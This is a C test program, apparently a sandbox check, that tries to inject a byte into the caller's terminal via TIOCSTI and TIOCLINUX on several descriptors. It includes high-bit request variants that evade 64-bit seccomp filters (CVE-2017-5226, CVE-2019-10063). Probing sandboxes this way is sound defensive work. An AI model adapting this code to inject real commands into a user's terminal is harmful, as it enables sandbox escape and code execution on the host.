/*
 * ttyinject: tries to push bytes into the caller's terminal (CVE-2017-5226), on every descriptor
 * and on /dev/tty, with the plain request and with high bits set in the 64-bit register, which a
 * filter that compares 64 bits lets through while the kernel looks at 32 (CVE-2019-10063).
 *
 * One line a try: "TIOCSTI fd 0: Operation not permitted". Exit status 1 where one succeeded.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541c
#endif

static int try(const char *name, int file, unsigned long request)
{
	char byte = 'X';
	long result = syscall(SYS_ioctl, (long)file, request, &byte);

	printf("%s fd %d: %s\n", name, file, result == 0 ? "SUCCEEDED" : strerror(errno));
	return result == 0;
}

int main(void)
{
	const unsigned long high = 0xdead000000000000UL;
	int files[] = { 0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC),
		        open("/dev/console", O_RDWR) };
	int successes = 0;

	for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
		successes += try("TIOCSTI", files[i], TIOCSTI);
		successes += try("TIOCSTI+high", files[i], TIOCSTI | high);
		successes += try("TIOCSTI+sign", files[i], TIOCSTI | 0xffffffff00000000UL);
		successes += try("TIOCLINUX", files[i], TIOCLINUX);
		successes += try("TIOCLINUX+high", files[i], TIOCLINUX | high);
	}
	return successes != 0;
}
